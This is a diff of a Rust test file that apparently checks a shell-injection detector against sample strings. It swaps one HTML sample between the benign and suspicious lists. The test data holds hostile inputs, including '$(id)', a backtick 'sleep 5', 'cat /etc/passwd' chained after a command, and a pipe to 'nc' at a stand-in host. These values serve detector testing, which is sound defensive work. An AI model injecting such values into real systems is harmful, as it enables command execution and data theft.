@@ -110,7 +110,6 @@ fn code_and_markdown_between_words_run_nothing_for_certain() {
         "| id | name |\n|----|------|\n| 1 | boots |",
         "To install: curl -fsSL https://example.com/install.sh -o install.sh; less install.sh; sh install.sh",
         "I ran ls -la && cat package.json | grep version, and it printed 1.2.3.",
-        "<p>Some text & more</p><a href=\"/more\">Read more</a>",
     ] {
         assert!(strength(value.as_bytes(), Dialect::Unix) < Some(Strength::Certain), "{value}");
     }
@@ -121,6 +120,7 @@ fn code_and_markdown_between_words_run_nothing_for_certain() {
         "x `sleep 5`",
         "| 1 | ; id |\n|---|---|",
         "| $(id) |\n|---|",
+        "<p>it is</p><p>; id</p>",
         "I ran ls -la; cat /etc/passwd",
         "x|id|nc e.example 1",
     ] {
